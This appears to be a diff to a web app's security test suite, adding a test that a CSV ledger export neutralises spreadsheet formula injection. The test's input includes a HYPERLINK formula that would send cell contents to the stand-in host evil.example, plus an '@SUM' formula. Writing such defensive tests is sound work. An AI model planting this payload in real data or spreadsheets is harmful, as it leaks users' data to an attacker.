@@ -1,6 +1,8 @@
 """Intrusion attempts that must fail: markup in titles and names (XSS), session fixation, open
 redirects on login, posts without a CSRF token, and role escalation by a worker or manager."""
 
+import csv
+import io
 import uuid
 from urllib.parse import urlsplit
 
@@ -347,3 +349,29 @@ def test_an_unknown_account_id_in_the_session_is_nobody(app, runtime):
         session["_user_id"] = str(uuid.uuid4())
         session["_fresh"] = True
     assert client.get("/").status_code == 302
+
+
+# --- Reports opened in a spreadsheet -----------------------------------------------------------
+
+
+def test_a_title_that_looks_like_a_formula_stays_text_in_the_csv_report(
+    app, runtime, make_account, deliver
+):
+    admin = make_account("admin")
+    make_account("worker", full_name="@SUM(1+1)")
+    formula = '=HYPERLINK("http://evil.example/?leak="&A1,"Pay me")'
+    with runtime.db.transaction() as session:
+        tracker.create_task(session, title=formula, created_by=admin.public_id)
+    deliver()
+    rows = list(
+        csv.reader(
+            io.StringIO(
+                logged_in(app, admin).get("/accounting/reports/ledger.csv").get_data(as_text=True)
+            )
+        )
+    )
+    header, [fee] = rows[0], rows[1:]
+    assert fee[header.index("task_title")] == "'" + formula
+    assert fee[header.index("account_name")] == "'@SUM(1+1)"
+    assert fee[header.index("amount_usd")].startswith("-")  # numbers stay numbers
+    assert int(fee[header.index("amount_cents")]) < 0
